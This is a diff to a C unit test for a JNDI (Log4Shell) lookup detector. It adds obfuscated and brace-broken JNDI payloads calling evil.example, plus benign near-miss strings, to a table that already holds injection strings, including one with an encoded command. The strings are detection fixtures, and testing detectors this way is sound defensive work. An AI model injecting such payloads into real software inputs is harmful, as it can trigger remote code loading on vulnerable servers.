@@ -169,6 +169,12 @@ static void test_jndi_grammar(void **st)
 		{"${sys:user.home}", J},
 		{"${::-$}{jndi:ldap://evil/a}", J},
 		{"${jndi:ldap://x.example:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}", J},
+		/* a copied payload closing its braces one early: the scheme's
+		 * lookup and "://host" right after it */
+		{"${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://evil.example/a}", J},
+		{"${jndi:ldap}://evil.example/a", J},
+		{"Block ${jndi:ldap} and ${jndi:rmi}: see https://logging.apache.org/security", N},
+		{"${jndi:ldap} ://not-a-url", N},
 	};
 	run_vtable("jndi-grammar", t, sizeof(t) / sizeof(t[0]));
 }
